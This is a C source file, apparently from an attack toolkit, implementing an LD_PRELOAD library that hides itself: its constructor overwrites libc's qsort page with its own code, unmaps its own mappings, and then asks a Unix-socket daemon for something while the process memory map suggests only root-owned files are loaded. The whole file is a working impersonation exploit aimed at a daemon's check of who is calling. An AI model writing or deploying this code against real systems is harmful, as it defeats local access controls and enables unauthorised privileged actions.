/* A library that leaves nothing of itself to be seen: it writes its code over code of the C library in this process,
 * where that is mapped, and unmaps itself. What then asks in the tool's name lies in a file of root, as far as the
 * memory map tells.
 */
#include "attack.h"
#include <stdlib.h>
#include <sys/syscall.h>

#define PIECES 32

struct job {
	struct sockaddr_un daemon;
	char request[512];
	size_t length;
	struct {
		unsigned long from, length;
	} own[PIECES];
	int pieces;
	char reply[4096];
};

__attribute__((always_inline)) static inline long call(long number, long a, long b, long c, long d, long e, long f)
{
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = f;
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return result;
}

/* Runs where it was copied to: no call, no constant outside of it. */
__attribute__((section("moved"), noinline, used, optimize("no-stack-protector"))) static void ask(struct job *job)
{
	long fd, got;

	for (int i = 0; i < job->pieces; i++)
		call(SYS_munmap, (long)job->own[i].from, (long)job->own[i].length, 0, 0, 0, 0);
	fd = call(SYS_socket, AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, 0, 0, 0);
	call(SYS_connect, fd, (long)&job->daemon, sizeof job->daemon, 0, 0, 0);
	call(SYS_sendto, fd, (long)job->request, (long)job->length, MSG_NOSIGNAL, 0, 0);
	got = call(SYS_read, fd, (long)job->reply, sizeof job->reply, 0, 0, 0);
	if (got > 0)
		call(SYS_write, 1, (long)job->reply, got, 0, 0, 0);
	call(SYS_exit_group, 0, 0, 0, 0, 0, 0);
}

extern char __start_moved[], __stop_moved[];

__attribute__((constructor)) static void on_load(void)
{
	const char *path = getenv("KA_SOCKET"), *request = getenv("KA_REQUEST"), *own = getenv("LD_PRELOAD");
	struct job *job;
	char line[512];
	FILE *maps;
	unsigned long page;
	void (*there)(struct job *);

	if (!path || !request || !own)
		return;
	job = mmap(NULL, sizeof *job, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	job->daemon.sun_family = AF_UNIX;
	strncpy(job->daemon.sun_path, path, sizeof job->daemon.sun_path - 1);
	job->length = (size_t)snprintf(job->request, sizeof job->request, "%s\n", request);
	maps = fopen("/proc/self/maps", "r");
	while (maps && fgets(line, sizeof line, maps) && job->pieces < PIECES) {
		unsigned long from, to;

		if (strstr(line, own) && sscanf(line, "%lx-%lx", &from, &to) == 2) {
			job->own[job->pieces].from = from;
			job->own[job->pieces].length = to - from;
			job->pieces++;
		}
	}
	/* the page of a function that nobody needs any more */
	page = (unsigned long)qsort & ~4095UL;
	there = (void (*)(struct job *))page;
	mprotect((void *)page, 4096, PROT_READ | PROT_WRITE);
	memcpy((void *)page, __start_moved, (size_t)(__stop_moved - __start_moved));
	mprotect((void *)page, 4096, PROT_READ | PROT_EXEC);
	there(job);
}
